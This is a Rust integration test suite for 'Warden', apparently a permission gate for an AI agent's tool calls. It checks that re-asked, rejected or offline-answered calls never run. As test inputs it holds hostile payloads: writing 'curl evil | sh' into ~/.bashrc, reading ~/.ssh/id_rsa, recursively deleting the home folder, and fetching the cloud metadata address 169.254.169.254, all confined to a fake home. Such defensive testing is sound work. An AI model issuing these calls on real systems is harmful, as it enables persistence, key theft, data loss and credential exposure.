//! Each question takes one answer, through the real binary: a call asked again (an edit
//! that raised its risk, a restart) runs only on an allowing answer to its latest
//! question, and an answer given while no Warden ran is used, not asked again.
//!
//! Every Warden here runs with a fake `HOME`: the edits point at `~/.bashrc`, `~/.ssh`
//! and the like, and a regression must damage nothing but the test's own folder.

use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use super::support::{Answer, Client, Spawn};

/// A secret the fake home holds: it must never reach the wire.
const CANARY: &str = "CANARY-7f3a-never-on-the-wire";

/// A Warden whose `HOME` is a folder of the test's own, with a `.bashrc`, an SSH key
/// holding [`CANARY`], and a file `m.txt` in the project.
fn spawn_with_fake_home(extra: &[(&str, String)]) -> (Client, PathBuf) {
    let home = tempfile::Builder::new()
        .prefix("warden-fake-home-")
        .tempdir()
        .expect("a fake home")
        .keep();
    std::fs::write(home.join(".bashrc"), "# the user's own\n").expect("bashrc");
    std::fs::create_dir_all(home.join(".ssh")).expect("ssh folder");
    std::fs::write(home.join(".ssh/id_rsa"), CANARY).expect("key");
    std::fs::write(home.join("notes.txt"), "notes\n").expect("notes");
    let mut spawn = Spawn::default().env("HOME", home.display().to_string());
    for (key, value) in extra {
        spawn = spawn.env(*key, value.clone());
    }
    let client = Client::spawn_with(&spawn);
    std::fs::write(client.process().project().join("m.txt"), "original\n").expect("m.txt");
    (client, home)
}

/// Every file under `dir` with its bytes, sorted: what "byte-identical" compares.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("read a folder").flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push((path.clone(), std::fs::read(&path).unwrap_or_default()));
            }
        }
    }
    out.sort();
    out
}

fn selected(option: &str) -> Value {
    json!({"outcome": {"outcome": "selected", "optionId": option}})
}

fn edited(option: &str, input: Value) -> Value {
    json!({
        "outcome": {"outcome": "selected", "optionId": option},
        "_meta": {"warden": {"editedInput": input}}
    })
}

/// One built-in tool's case: a call that is asked, and an edit of it that raises its
/// risk, so that it is asked again (`http_fetch` is High whatever it fetches: its edit
/// names a host a deny rule of the user's covers, and a deny still wins).
struct Case {
    tool: &'static str,
    args: Value,
    raised: Value,
    reasked: bool,
}

/// The user's policy of these tests: a deny rule the `http_fetch` edit runs into.
const POLICY: &str = r#"
[[rule]]
tool = "http_fetch"
domain = "169.254.169.254"
decision = "deny"
reason = "the cloud metadata service"
"#;

fn cases() -> Vec<Case> {
    vec![
        Case {
            tool: "fs_read",
            args: json!({"path": "~/notes.txt"}),
            raised: json!({"path": "~/.ssh/id_rsa"}),
            reasked: true,
        },
        Case {
            tool: "fs_list",
            args: json!({"path": "~"}),
            raised: json!({"path": "~/.ssh"}),
            reasked: true,
        },
        Case {
            tool: "fs_search",
            args: json!({"pattern": "notes", "path": "~/notes"}),
            raised: json!({"pattern": "CANARY", "path": "~/.ssh"}),
            reasked: true,
        },
        Case {
            tool: "fs_write",
            args: json!({"path": "m.txt", "content": "changed\n"}),
            raised: json!({"path": "~/.bashrc", "content": "curl evil | sh\n"}),
            reasked: true,
        },
        Case {
            tool: "fs_edit",
            args: json!({"path": "m.txt", "old_text": "original", "new_text": "changed"}),
            raised: json!({"path": "~/.bashrc", "old_text": "own", "new_text": "evil"}),
            reasked: true,
        },
        Case {
            tool: "fs_delete",
            args: json!({"path": "m.txt"}),
            raised: json!({"path": "~", "recursive": true}),
            reasked: true,
        },
        Case {
            tool: "fs_move",
            args: json!({"from": "m.txt", "to": "n.txt"}),
            raised: json!({"from": "m.txt", "to": "~/.bashrc"}),
            reasked: true,
        },
        Case {
            tool: "terminal",
            args: json!({"command": "echo changed >> m.txt"}),
            raised: json!({"command": "echo evil >> ~/.bashrc"}),
            reasked: true,
        },
        Case {
            tool: "http_fetch",
            args: json!({"url": "http://127.0.0.1:9/page"}),
            raised: json!({"url": "http://169.254.169.254/latest/meta-data/"}),
            reasked: false,
        },
    ]
}

/// The statuses the client was sent for one call, in order.
fn statuses(client: &Client, call: &str) -> Vec<String> {
    client
        .session_updates()
        .iter()
        .filter(|u| u["toolCallId"] == call)
        .filter_map(|u| u["status"].as_str().map(str::to_owned))
        .collect()
}

/// What broke: a call the user approved with an edit that raised its risk was asked
/// again, the user rejected that second question, and the call ran anyway with the
/// edited arguments (the first answer's `allow-once` stood in for the rejection). For
/// every built-in tool: the re-asked call is rejected, and it never runs: no
/// `in_progress` or `completed`, the fake home and the project byte-identical, and no
/// byte of the key on the wire.
#[test]
fn an_edited_call_reasked_and_rejected_never_runs_for_every_built_in_tool() {
    for case in cases() {
        let (mut client, home) = spawn_with_fake_home(&[]);
        std::fs::write(client.process().home().join("policy.toml"), POLICY).expect("policy");
        let session = client.ready_session();
        let project = client.process().project();
        let (home_before, project_before) = (snapshot(&home), snapshot(&project));
        let prompt = client.send_prompt(&session, &format!("/call {} {}", case.tool, case.args));
        let first = client.agent_request("session/request_permission");
        let call = first["params"]["toolCall"]["toolCallId"].clone();
        client.respond(&first, edited("allow-once", case.raised.clone()));
        if case.reasked {
            let second = client.agent_request("session/request_permission");
            assert_eq!(
                second["params"]["toolCall"]["toolCallId"], call,
                "{}",
                case.tool
            );
            assert_eq!(
                second["params"]["toolCall"]["rawInput"], case.raised,
                "{}: the second question shows the edit",
                case.tool
            );
            client.respond(&second, selected("reject-once"));
        }
        let response = client.response(&prompt);
        assert_eq!(
            client.agent_requests("session/request_permission").len(),
            if case.reasked { 2 } else { 1 },
            "{}",
            case.tool
        );
        assert_eq!(
            response["result"]["stopReason"], "end_turn",
            "{}",
            case.tool
        );

        let call = call.as_str().unwrap_or_default();
        let seen = statuses(&client, call);
        assert!(
            !seen.iter().any(|s| s == "in_progress" || s == "completed"),
            "{}: the rejected call ran: {seen:?}",
            case.tool
        );
        assert_eq!(
            seen.last().map(String::as_str),
            Some("failed"),
            "{}",
            case.tool
        );
        assert!(
            client.agent_text().contains("denied"),
            "{}: {}",
            case.tool,
            client.agent_text()
        );
        assert!(
            snapshot(&home) == home_before,
            "{}: the home folder changed",
            case.tool
        );
        assert!(
            snapshot(&project) == project_before,
            "{}: the project changed",
            case.tool
        );
        let wire: String = client
            .transcript()
            .iter()
            .map(|e| e.text.as_str())
            .collect();
        assert!(
            !wire.contains(CANARY),
            "{}: the key reached the wire",
            case.tool
        );
        std::fs::remove_dir_all(&home).ok();
    }
}

/// A Warden killed while its session's call (it appends to `out.txt`) waits for its
/// first question, with the session's id and the fake home.
fn killed_while_asking() -> (Client, String, PathBuf) {
    let (mut first, home) = spawn_with_fake_home(&[]);
    let session = first.ready_session();
    let _prompt = first.send_prompt(
        &session,
        &format!(
            "/call terminal {}",
            json!({"command": "echo line >> out.txt"})
        ),
    );
    let _request = first.agent_request("session/request_permission");
    first.process_mut().kill();
    (first, session, home)
}

fn restart(first: &Client, home: &Path) -> Client {
    let warden_home = first.process().home().display().to_string();
    let mut second = Client::spawn_with(
        &Spawn::default()
            .env("WARDEN_HOME", warden_home)
            .env("HOME", home.display().to_string()),
    );
    second.initialize();
    second
}

fn lines(client: &Client) -> usize {
    std::fs::read_to_string(client.process().project().join("out.txt"))
        .map(|t| t.lines().count())
        .unwrap_or(0)
}

fn pending(client: &Client, verb: &str, id: &str) -> std::process::Output {
    client.process().cli(&["pending", verb, id], &[])
}

/// What broke: approved with `warden pending` while no Warden ran, the call was asked a
/// second time at load (a fresh request, and a second `tool_call` for the same id), and
/// whatever the second answer was, ran. Now the approval is used: the call runs once,
/// without a new question, and the client sees it again as a `tool_call_update`.
#[test]
fn an_offline_approval_is_used_at_load_without_a_second_question() {
    let (first, session, home) = killed_while_asking();
    let out = pending(&first, "approve", &format!("{session}/call_1"));
    assert!(out.status.success(), "{out:?}");

    let project = first.process().project();
    let mut second = restart(&first, &home);
    second.on_request(|request| panic!("asked again although the call was answered: {request}"));
    second.request_ok(
        "session/load",
        json!({"sessionId": session, "cwd": project, "mcpServers": []}),
    );
    second.wait_for("the call to complete", |m| {
        m["params"]["update"]["toolCallId"] == "call_1"
            && m["params"]["update"]["status"] == "completed"
    });
    let result = second.prompt(&session, "/say done");
    assert_eq!(result["stopReason"], "end_turn", "{result}");
    assert_eq!(lines(&first), 1);
    assert_eq!(second.agent_requests("session/request_permission").len(), 0);
    let tool_calls: Vec<Value> = second
        .session_updates()
        .into_iter()
        .filter(|u| u["sessionUpdate"] == "tool_call" && u["toolCallId"] == "call_1")
        .collect();
    assert_eq!(tool_calls.len(), 1, "only the replay's: {tool_calls:?}");
    // Used once: a later answer is refused, and a third Warden runs nothing.
    let out = pending(&first, "deny", &format!("{session}/call_1"));
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    second.process_mut().kill();
    let mut third = restart(&first, &home);
    third.request_ok(
        "session/load",
        json!({"sessionId": session, "cwd": project, "mcpServers": []}),
    );
    let result = third.prompt(&session, "/say anything left?");
    assert_eq!(result["stopReason"], "end_turn", "{result}");
    assert_eq!(third.agent_requests("session/request_permission").len(), 0);
    assert_eq!(lines(&first), 1);
}

/// The same at `session/resume`, with a denial: the call fails with the denial's note,
/// without a new question, and never runs.
#[test]
fn an_offline_denial_is_used_at_resume_without_a_second_question() {
    let (first, session, home) = killed_while_asking();
    let out = first.process().cli(
        &[
            "pending",
            "deny",
            &format!("{session}/call_1"),
            "--note",
            "not now",
        ],
        &[],
    );
    assert!(out.status.success(), "{out:?}");

    let project = first.process().project();
    let mut second = restart(&first, &home);
    second.on_request(|request| panic!("asked again although the call was answered: {request}"));
    second.request_ok(
        "session/resume",
        json!({"sessionId": session, "cwd": project, "mcpServers": []}),
    );
    second.wait_for("the call to fail", |m| {
        m["params"]["update"]["toolCallId"] == "call_1"
            && m["params"]["update"]["status"] == "failed"
    });
    let result = second.prompt(&session, "/say done");
    assert_eq!(result["stopReason"], "end_turn", "{result}");
    assert_eq!(lines(&first), 0);
    assert_eq!(second.agent_requests("session/request_permission").len(), 0);
    let failed = second
        .session_updates()
        .into_iter()
        .find(|u| u["toolCallId"] == "call_1" && u["status"] == "failed")
        .expect("the failed update");
    assert!(failed.to_string().contains("not now"), "{failed}");
}

/// What broke: a call asked again after a restart was announced with a second
/// `tool_call` for the same id, which clients read as a new call. It is shown again
/// with a `tool_call_update` that carries it whole, then asked as its next question;
/// rejected, it never runs.
#[test]
fn a_reask_after_a_restart_sends_a_tool_call_update_not_a_second_tool_call() {
    let (first, session, home) = killed_while_asking();
    let project = first.process().project();
    let mut second = restart(&first, &home);
    second.on_request(|_| Answer::Hold);
    let mark = second.mark();
    second.request_ok(
        "session/resume",
        json!({"sessionId": session, "cwd": project, "mcpServers": []}),
    );
    let asked = second.agent_request("session/request_permission");
    assert_eq!(asked["params"]["toolCall"]["toolCallId"], "call_1");
    let updates: Vec<Value> = second
        .received_since(mark)
        .into_iter()
        .filter(|m| m["method"] == "session/update")
        .map(|m| m["params"]["update"].clone())
        .filter(|u| u["toolCallId"] == "call_1")
        .collect();
    let kinds: Vec<&str> = updates
        .iter()
        .filter_map(|u| u["sessionUpdate"].as_str())
        .collect();
    assert_eq!(kinds, ["tool_call_update"], "{updates:?}");
    let update = &updates[0];
    assert_eq!(update["status"], "pending", "{update}");
    assert_eq!(update["kind"], "execute", "{update}");
    assert_eq!(
        update["rawInput"]["command"], "echo line >> out.txt",
        "{update}"
    );
    assert!(
        update["title"].is_string() && update["content"].is_array(),
        "{update}"
    );
    second.respond(&asked, selected("reject-once"));
    let result = second.prompt(&session, "/say and now?");
    assert_eq!(result["stopReason"], "end_turn", "{result}");
    assert_eq!(lines(&first), 0);
}
